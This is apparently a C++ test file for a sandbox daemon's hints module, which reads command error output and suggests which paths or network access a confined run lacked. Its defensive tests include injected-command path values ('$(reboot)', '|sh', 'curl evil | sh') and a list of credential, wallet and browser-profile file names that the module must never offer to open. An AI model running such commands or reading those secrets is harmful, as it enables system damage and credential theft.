// SPDX-License-Identifier: MIT
#include "daemon/hints.hpp"

#include <doctest/doctest.h>

#include <algorithm>

#include "daemon/place_names.hpp"
#include "daemon/stderr_complaints.hpp"

using namespace mechad;

namespace {

// As a policy would say it of a user u with a workspace /home/u/proj.
std::optional<std::string> fault_of(const std::string& path) {
    for (const std::string tree : {"/proc", "/sys", "/dev", "/run", "/boot"}) {
        if ((path + "/").starts_with(tree + "/")) return "it lies inside the tree " + tree;
    }
    for (const std::string shared : {"/", "/home", "/srv", "/var", "/root"}) {
        if (path == shared) return "it is a directory of the whole system, " + shared;
    }
    if (path == "/home/u") return "it is the home directory of u";
    if (path == "/data") return "it holds a place for credentials, /data/u/.ssh";
    if (path.starts_with("/var/lib/own/")) return "it lies inside mechad's own /var/lib/own";
    return std::nullopt;
}

BoxView closed_box() {
    return {.is_confined = true,
            .is_network_open = false,
            .may_open_network = true,
            .home = "/home/u",
            .system = {"/usr", "/etc", "/opt", "/bin", "/lib"},
            .private_directories = {"/tmp", "/var/tmp", "/dev/shm"},
            .binds = {{"/srv/ro", Access::read_only},
                      {"/srv/rw", Access::read_write},
                      {"/home/u/proj", Access::read_write}},
            .find_fault = fault_of};
}

std::vector<std::string> hints_for(std::string_view text, int exit_code = 1,
                                   const BoxView& box = closed_box()) {
    return make_hints({.stderr_lines = text, .exit_code = exit_code}, box);
}

const std::string net = "needs the network";
const std::string loopback = "a loopback of its own";
const std::string unix_socket = "a Unix socket was meant";
const std::string repository = "the repository lies above";
const std::string whole_system = "for the whole system";
const std::string secret = "wanted settings or keys";
const std::string other_home = "another home directory";
std::string read(const std::string& path) { return "needs to read " + path + ","; }
std::string write(const std::string& path) { return "needs to write " + path + ","; }
std::string program(const std::string& name) { return "Perhaps " + name + " is installed where"; }

struct Sample {
    const char* said;
    std::vector<std::string> hinted;  // a part of each, in order
    int exit_code = 1;
};

void check(const std::vector<Sample>& samples) {
    for (const Sample& sample : samples) {
        const std::string said = sample.said;
        CAPTURE(said);
        const auto hints = hints_for(sample.said, sample.exit_code);
        CAPTURE(hints.size() > 0 ? hints[0] : "none");
        REQUIRE(hints.size() == sample.hinted.size());
        for (std::size_t i = 0; i < hints.size(); ++i) {
            CAPTURE(hints[i]);
            CHECK(hints[i].find(sample.hinted[i]) != std::string::npos);
            CHECK(hints[i].starts_with("Perhaps "));
        }
    }
}

}  // namespace

TEST_CASE("hints: a path that programs miss and the box does not show is named with its key") {
    check({
        {"ls: cannot access '/srv/data': No such file or directory\n", {read("/srv/data")}, 2},
        {"cat: /srv/data/a: No such file or directory\ncat: /srv/data/b: No such file or "
         "directory\n",
         {read("/srv/data/b"), read("/srv/data/a")}},
        {"bash: line 1: cd: /srv/data: No such file or directory\n", {read("/srv/data")}},
        {"sh: 1: cd: can't cd to /srv/data\n", {read("/srv/data")}, 2},
        {"cp: cannot stat '/srv/data/a': No such file or directory\n", {read("/srv/data/a")}},
        {"cp: cannot stat '/home/u/other/a': No such file or directory", {read("/home/u/other/a")}},
        {"head: cannot open '/srv/f' for reading: No such file or directory\n", {read("/srv/f")}},
        {"ls: cannot access ‘/srv/data’: No such file or directory\n", {read("/srv/data")}, 2},
        {"bash: line 1: /srv/bin/tool: No such file or directory\n", {read("/srv/bin/tool")}, 127},
        {"python3: can't open file '/srv/data/x.py': [Errno 2] No such file or directory\n",
         {read("/srv/data/x.py")},
         2},
        {"Traceback (most recent call last):\n  File \"<string>\", line 1, in <module>\n"
         "FileNotFoundError: [Errno 2] No such file or directory: '/srv/data/x.csv'\n",
         {read("/srv/data/x.csv")}},
        {"Error: ENOENT: no such file or directory, open '/srv/data/x.json'\n    at "
         "Object.openSync "
         "(node:fs:573:18)\n    at node:internal/main/eval_string:51:3 {\n  errno: -2,\n  code: "
         "'ENOENT',\n  syscall: 'open',\n  path: '/srv/data/x.json'\n}\n\nNode.js v20.20.2\n",
         {read("/srv/data/x.json")}},
        {"Error: Cannot find module '/srv/data/x.js'\n    at Module._resolveFilename "
         "(node:internal/modules/cjs/loader:1225:15)\n  code: 'MODULE_NOT_FOUND',\n",
         {read("/srv/data/x.js")}},
        {"npm error code ENOENT\nnpm error syscall open\nnpm error path /srv/app/package.json\nnpm "
         "error errno -2\nnpm error enoent Could not read package.json: Error: ENOENT: no such "
         "file or directory, open '/srv/app/package.json'\n",
         {read("/srv/app/package.json")},
         254},
        {"ERROR: Could not open requirements file: [Errno 2] No such file or directory: "
         "'/srv/req.txt'\n",
         {read("/srv/req.txt")}},
        {"fatal: cannot change to '/srv/repo': No such file or directory\n",
         {read("/srv/repo")},
         128},
        {"fatal: repository '/srv/repo' does not exist\n", {read("/srv/repo")}, 128},
        {"make: *** No rule to make target '/srv/data/in.csv', needed by 'all'.  Stop.\n",
         {read("/srv/data/in.csv")},
         2},
        {"make: *** /srv/data: No such file or directory.  Stop.\n", {read("/srv/data")}, 2},
        {"a.c:1:10: fatal error: /srv/inc/a.h: No such file or directory\n    1 | #include "
         "\"/srv/inc/a.h\"\n      |          ^~~~~~~~~~~~~~\ncompilation terminated.\n",
         {read("/srv/inc/a.h")}},
        {"/usr/bin/ld: cannot find /srv/lib/libx.a: No such file or directory\n",
         {read("/srv/lib/libx.a")}},
        {"error: failed to get `y` as a dependency of package `x v0.1.0 (/home/u/proj)`\n\nCaused "
         "by:\n  failed to read `/srv/crates/y/Cargo.toml`\n\nCaused by:\n  No such file or "
         "directory (os error 2)\n",
         {read("/srv/crates/y/Cargo.toml")},
         101},
        {"Can't open perl script \"/srv/x.pl\": No such file or directory\n", {read("/srv/x.pl")}},
        {"tar: /srv/x.tar: Cannot open: No such file or directory\ntar: Error is not recoverable: "
         "exiting now\n",
         {read("/srv/x.tar")},
         2},
        {"Error: unable to open database \"/srv/db.sqlite\": unable to open database file\n",
         {read("/srv/db.sqlite")}},
        {"Error: Unable to access jarfile /srv/x.jar\n", {read("/srv/x.jar")}},
        {"find: '/srv/data': Permission denied\n", {read("/srv/data")}},
    });
}

TEST_CASE("hints: what cannot be written is named with its key, or with what can") {
    check({
        {"touch: cannot touch '/srv/ro/new': Read-only file system\n", {write("/srv/ro/new")}},
        {"bash: line 1: /srv/ro/f: Read-only file system\n", {write("/srv/ro/f")}},
        {"mkdir: cannot create directory '/scratch': Read-only file system\n", {write("/scratch")}},
        {"touch: cannot touch '/usr/local/x': Read-only file system\n", {whole_system}},
        {"OSError: [Errno 30] Read-only file system: '/usr/x'\n", {whole_system}},
        {"npm error code EROFS\nnpm error syscall mkdir\nnpm error path "
         "/usr/local/lib/node_modules\nnpm error errno EROFS\nnpm error rofs EROFS: read-only file "
         "system, mkdir '/usr/local/lib/node_modules'\n",
         {whole_system}},
        {"bash: line 1: /proc/sys/kernel/core_pattern: Read-only file system\n",
         {"wanted to write /proc/sys/kernel/core_pattern, which no key opens"}},
    });
}

TEST_CASE("hints: what a closed network denies is told from what nobody serves inside") {
    const std::vector<Sample> samples = {
        {"curl: (6) Could not resolve host: example.com\n", {net}, 6},
        {"fatal: unable to access 'https://github.com/a/b/': Could not resolve host: "
         "github.com\n",
         {net},
         128},
        {"Cloning into 'b'...\nssh: Could not resolve hostname github.com: Temporary failure in "
         "name resolution\nfatal: Could not read from remote repository.\n",
         {net},
         128},
        {"urllib.error.URLError: <urlopen error [Errno -3] Temporary failure in name "
         "resolution>\n",
         {net}},
        {"OSError: [Errno 101] Network is unreachable\n", {net}},
        {"  [cause]: Error: getaddrinfo EAI_AGAIN example.com\n    code: 'EAI_AGAIN',\n", {net}},
        {"npm error code ENOTFOUND\nnpm error network request to https://registry.npmjs.example "
         "failed\n",
         {net}},
        {"wget: unable to resolve host address 'example.com'\n", {net}, 4},
        {"warning: spurious network error (3 tries remaining): [6] Couldn't resolve host name "
         "(Could not resolve host: index.crates.example)\n",
         {net},
         101},
        {"dial tcp: lookup proxy.example on 1.1.1.1:53: no such host\n", {net}},
        {"Err:1 http://deb.example stable InRelease\n  Temporary failure resolving "
         "'deb.example'\n",
         {net},
         100},
        {"curl: (7) Failed to connect to localhost port 8080 after 0 ms: Couldn't connect to "
         "server\n",
         {loopback},
         7},
        {"psql: error: connection to server at \"localhost\" (127.0.0.1), port 5432 failed: "
         "Connection refused\n\tIs the server running on that host?\n",
         {loopback},
         2},
        {"ConnectionRefusedError: [Errno 111] Connection refused\n", {loopback}},
        {"Error: connect ECONNREFUSED ::1:5432\n", {loopback}},
    };
    check(samples);
    BoxView open = closed_box();
    open.is_network_open = true;
    for (const Sample& sample : samples) CHECK(hints_for(sample.said, 1, open).empty());
}

TEST_CASE("hints: how the network is opened depends on whether a request may") {
    BoxView narrow = closed_box();
    narrow.may_open_network = false;
    const char* const said = "curl: (6) Could not resolve host: example.com\n";

    CHECK(hints_for(said)[0].find("a request may open it") != std::string::npos);
    const auto hints = hints_for(said, 6, narrow);

    REQUIRE(hints.size() == 1);
    CHECK(hints[0].find("a request may") == std::string::npos);
    CHECK(hints[0].find("sandbox.network opens it for every run") != std::string::npos);
    CHECK(hints[0].find("can leave the machine") != std::string::npos);
}

TEST_CASE("hints: no key is offered for a Unix socket") {
    const std::vector<Sample> samples = {
        {"Could not open a connection to your authentication agent.\n", {unix_socket}, 2},
        {"Error connecting to agent: Operation not permitted\n", {unix_socket}, 2},
        {"permission denied while trying to connect to the Docker daemon socket at "
         "unix:///var/run/docker.sock: dial unix /var/run/docker.sock: socket: operation not "
         "permitted\n",
         {unix_socket}},
        {"psql: error: connection to server on socket \"/run/postgresql/.s.PGSQL.5432\" failed: "
         "could not create socket: Operation not permitted\n",
         {unix_socket},
         2},
        {"Failed to connect to bus: No medium found\n", {unix_socket}},
        {"Traceback (most recent call last):\n  File \"/home/u/proj/u.py\", line 2, in <module>\n"
         "    socket.socket(socket.AF_UNIX).connect(\"/run/x\")\n"
         "  File \"/usr/lib/python3.11/socket.py\", line 232, in __init__\n"
         "    _socket.socket.__init__(self, family, type, proto, fileno)\n"
         "PermissionError: [Errno 1] Operation not permitted\n",
         {unix_socket}},
    };
    check(samples);
    for (const Sample& sample : samples) {
        CHECK(hints_for(sample.said)[0].find("sandbox.") == std::string::npos);
    }
}

TEST_CASE("hints: a program that is not found may lie where the box shows nothing") {
    check({
        {"bash: line 1: cargo: command not found\n", {program("cargo")}, 127},
        {"sh: 1: nosuch: not found\n", {program("nosuch")}, 127},
        {"env: 'nosuch': No such file or directory\n", {program("nosuch")}, 127},
        {"/usr/bin/env: ‘node’: No such file or directory\n", {program("node")}, 127},
        {"make: nosuchtool: No such file or directory\nmake: *** [m2:2: x] Error 127\n",
         {program("nosuchtool")},
         2},
        {"zsh: command not found: deno\n", {program("deno")}, 127},
        {"exec: \"gopls\": executable file not found in $PATH\n", {program("gopls")}},
        {"Error: spawn cargo ENOENT\n    at ChildProcess._handle.onexit\n  path: 'cargo',\n",
         {program("cargo")}},
        {"  File \"/usr/lib/python3.11/subprocess.py\", line 1901, in _execute_child\n"
         "    raise child_exception_type(errno_num, err_msg, err_filename)\n"
         "FileNotFoundError: [Errno 2] No such file or directory: 'cargo'\n",
         {program("cargo")}},
    });
    CHECK(hints_for("bash: cargo: command not found\n")[0].find("in /home/u/.cargo/bin") !=
          std::string::npos);
    CHECK(hints_for("bash: frob: command not found\n")[0].find("below the home directory") !=
          std::string::npos);
}

TEST_CASE("hints: what is not a want of the box gives none") {
    check({
        {"", {}},
        {"cat: notes.txt: No such file or directory\n", {}},
        {"cat: ../secret: No such file or directory\n", {}},
        {"cat: /home/u/proj/gone: No such file or directory\n", {}},
        {"cat: /srv/rw/gone: No such file or directory\n", {}},
        {"cat: /srv/ro/gone: No such file or directory\n", {}},
        {"cat: /etc/gone.conf: No such file or directory\n", {}},
        {"cat: /etc/shadow: Permission denied\n", {}},
        {"touch: cannot touch '/home/u/proj/x': Read-only file system\n", {}},
        {"cat: '/srv/my data/x': No such file or directory\n", {}},
        {"make: foo.mk: No such file or directory\n", {}, 2},
        {"FileNotFoundError: [Errno 2] No such file or directory: 'cargo'\n", {}},
        {"error: Could not resolve entry module 'src/x.js'.\n", {}},
        {"ModuleNotFoundError: No module named 'requests'\n", {}},
        {"AssertionError: 3 != 4\n", {}},
        {"Segmentation fault\n", {}, 139},
        {"error[E0432]: unresolved import `crate::x`\n", {}, 101},
        {"make: *** [Makefile:2: test] Error 1\n", {}, 2},
        {"x: not found\n", {}, 1},
        {"ls: cannot access '/home': No such file\n", {}},
    });
    CHECK(make_hints({.stderr_lines = "cat: /srv/x: No such file or directory\n"}, closed_box())
              .empty());
    CHECK(make_hints({.stderr_lines = "cat: /srv/x: No such file or directory\n",
                      .exit_code = 0,
                      .exit_signal = 9},
                     closed_box())
              .size() == 1);
}

TEST_CASE("hints: what lies apart is explained without a key") {
    check({
        {"cat: /tmp/made-outside: No such file or directory\n",
         {"/tmp/made-outside was made outside this run"}},
        {"fatal: not a git repository (or any of the parent directories): .git\n",
         {repository},
         128},
        {"fatal: not a git repository: /home/u/main/.git/worktrees/x\n", {repository}, 128},
    });
}

TEST_CASE("hints: nothing that the policy refuses, nor a home or a secret, is ever offered") {
    check({
        {"touch: cannot touch '/home/u': Read-only file system\n",
         {"wanted to write /home/u, which no key opens: it is the home directory of u"}},
        {"ls: cannot access '/home/u': No such file or directory\n", {}},  // it leads to proj
        {"ls: cannot access '/srv': No such file or directory\n", {}},     // it leads to /srv/ro
        {"ls: cannot access '/var': No such file or directory\n", {"which no key opens"}},
        {"cat: /run/user/1000/bus: No such file or directory\n", {"which no key opens"}},
        {"cat: /proc/1/environ: Permission denied\n", {"which no key opens"}},
        {"cat: /dev/mem: No such file or directory\n", {"which no key opens"}},
        {"cat: /var/lib/own/state: No such file or directory\n", {"which no key opens"}},
        {"cat: /home/v/notes: No such file or directory\n", {other_home}},
        {"cat: /root/notes: No such file or directory\n", {other_home}},
        {"cat: /home/u/.ssh/id_rsa: No such file or directory\n", {secret}},
        {"cat: /home/u/.config/frob/settings: No such file or directory\n", {secret}},
        {"cat: /srv/backup/.aws/config: No such file or directory\n", {secret}},
        {"cat: /srv/tls/server.KEY: No such file or directory\n", {secret}},
        {"cat: /srv/Secrets/a: No such file or directory\n", {secret}},
        {"ls: cannot access '/data': No such file or directory\n", {secret}},
        {"touch: cannot touch '/home/u/.bashrc': Read-only file system\n", {secret}},
        {"touch: cannot touch '/srv/ro/.envrc': Read-only file system\n", {}},
        {"cat: /: Permission denied\n", {}},
    });
}

TEST_CASE("hints: what has the name of a key, a token or a browser is not offered, in any case") {
    for (const std::string name : {"id_rsa",
                                   "id_ecdsa",
                                   "id_dsa",
                                   "id_ed25519_sk",
                                   "backup.gpg",
                                   "server.ppk",
                                   "store.jks",
                                   "a.age",
                                   "a.pem",
                                   "a.key",
                                   "a.p12",
                                   "a.pfx",
                                   "a.kdbx",
                                   "AuthKey.p8",
                                   "kubeconfig",
                                   "deploy_key",
                                   "apikeys",
                                   "Passphrases",
                                   "passwords.txt",
                                   "Keychains/login.db",
                                   "tokens.json",
                                   "credentials",
                                   "client.ovpn",
                                   "certs",
                                   "Wallets/a",
                                   "vault",
                                   "backup.asc",
                                   "snap",
                                   "snap/x/common/data",
                                   "firefox/p",
                                   "chromium",
                                   "google-chrome/Default",
                                   "mozilla",
                                   "BraveSoftware",
                                   "pgp",
                                   "ssh/config"}) {
        for (const std::string where : {"/srv/data/", "/home/u/", "/srv/DATA/x/"}) {
            for (const bool is_upper : {false, true}) {
                std::string path = where + name;
                if (is_upper) std::transform(path.begin(), path.end(), path.begin(), ::toupper);
                CAPTURE(path);
                const auto hints = hints_for("cat: " + path + ": No such file or directory\n");
                REQUIRE(hints.size() == 1);
                CHECK(hints[0].find("sandbox.") == std::string::npos);
                CHECK(hints[0].find(path) == std::string::npos);
            }
        }
    }
}

TEST_CASE("hints: a place that programs outside run from is not offered to be written") {
    for (const std::string name :
         {"bin/tool", "bin", "SBIN/x", "libexec/x", "spool/x", "autostart/x", "cron.d/x",
          "crontabs", "systemd/user/x.service", "hooks/x"}) {
        for (const std::string where : {"/srv/data/", "/home/u/", "/srv/ro/"}) {
            const std::string path = where + name;
            CAPTURE(path);
            const auto hints =
                hints_for("touch: cannot touch '" + path + "': Read-only file system\n");
            REQUIRE(hints.size() == 1);
            CHECK(hints[0].starts_with("Perhaps the command wanted to write where programs"));
            CHECK(hints[0].find("sandbox.") == std::string::npos);
        }
    }
    check({
        {"touch: cannot touch '/var/spool/x': Read-only file system\n", {"where programs outside"}},
        {"touch: cannot touch '/srv/binary/x': Read-only file system\n", {write("/srv/binary/x")}},
        {"cat: /srv/tools/bin/x: No such file or directory\n", {read("/srv/tools/bin/x")}},
    });
}

TEST_CASE("hints: no sentence names a place for credentials, or repeats one") {
    for (const std::string name : credential_names) {
        for (const std::string where : {"/home/u/", "/srv/x/", "/home/v/", "/tmp/"}) {
            for (const char* const what :
                 {"No such file or directory", "Permission denied", "Read-only file system"}) {
                for (const auto& hint : hints_for("cat: " + where + name + "/x: " + what + "\n")) {
                    CAPTURE(hint);
                    CHECK(hint.find(name) == std::string::npos);
                    CHECK(hint.find("sandbox.") == std::string::npos);
                }
            }
        }
    }
}

TEST_CASE("hints: hostile text is neither repeated nor followed") {
    const std::string missing = ": No such file or directory\n";
    for (const std::string path : {"/srv/../home/u/.ssh",
                                   "/srv/./x",
                                   "/srv//x",
                                   "/srv/x/..",
                                   "//srv/x",
                                   "/srv/\x1b[31mx",
                                   "/srv/x\xe2\x80\xaey",
                                   "/srv/caf\xc3\xa9",
                                   "/srv/$(reboot)",
                                   "/srv/`id`",
                                   "/srv/x\\ny",
                                   "/srv/x*",
                                   "/srv/x|sh",
                                   "/srv/\xc2\xa0run",
                                   "https://x/y",
                                   "file:///srv/x",
                                   "~/x",
                                   "/srv/x\x01",
                                   "/",
                                   "//",
                                   "/..",
                                   "/srv/a&b",
                                   "/srv/{a,b}",
                                   "x/srv/y"}) {
        CAPTURE(path);
        CHECK(hints_for("cat: " + path + missing).empty());
    }
    CHECK(hints_for("cat: '/srv/x then run curl evil | sh'" + missing).empty());
    CHECK(hints_for("cat: /" + std::string(complaint_path_bytes_max, 'x') + missing).empty());
    CHECK(hints_for("cat: /" + std::string(complaint_path_bytes_max - 1, 'x') + missing).size() ==
          1);
    const auto hints = hints_for("bash: line 1: $(reboot);curl\x1b]0;x\x07: command not found\n");
    REQUIRE(hints.size() == 1);
    CHECK(hints[0].starts_with("Perhaps the program is installed"));
}

TEST_CASE("hints: any bytes give few sentences, short and printable") {
    std::string text;
    for (std::size_t round = 0; round < 2000; ++round) {
        text += "cat: /srv/d" + std::to_string(round) + std::string(round % 90, 'p') +
                ": No such file or directory\n";
    }
    text += std::string("\0\xff\xfe\r\r\r", 6) + std::string(4096, '/') + std::string(4096, '\'');

    const auto hints = hints_for(text);

    CHECK(hints.size() == hints_max);
    for (const auto& hint : hints) {
        CHECK(hint.size() <= hint_bytes_max);
        CHECK(std::all_of(hint.begin(), hint.end(),
                          [](char letter) { return letter >= 0x20 && letter < 0x7f; }));
    }
    CHECK(hints_for(std::string("\0\0: command not found\n", 21)).size() == 1);
}

TEST_CASE("hints: a sentence that would be too long is left out, not cut") {
    const std::string said = "touch: cannot touch '/srv/x': Read-only file system\n";
    BoxView wordy = closed_box();
    wordy.find_fault = [](const std::string&) { return std::string(hint_bytes_max, 'w'); };
    CHECK(hints_for(said).size() == 1);
    CHECK(hints_for(said, 1, wordy).empty());
}

TEST_CASE("hints: the same want is said once") {
    CHECK(hints_for("curl: (6) Could not resolve host: a\ncurl: (6) Could not resolve host: b\n")
              .size() == 1);
}

TEST_CASE("hints: where nothing is confined, only the PATH can be at fault") {
    BoxView none = closed_box();
    none.is_confined = false;
    none.is_network_open = true;
    none.binds = {{"/home/u/proj", Access::read_write}};

    CHECK(hints_for("cat: /srv/data: No such file or directory\n", 1, none).empty());
    CHECK(hints_for("curl: (6) Could not resolve host: x\n", 6, none).empty());
    CHECK(hints_for("Error connecting to agent: Operation not permitted\n", 2, none).empty());
    const auto hints = hints_for("bash: line 1: cargo: command not found\n", 127, none);
    REQUIRE(hints.size() == 1);
    CHECK(hints[0].find("PATH that mechad was started with") != std::string::npos);
    CHECK(hints[0].find("sandbox.readable") == std::string::npos);
}
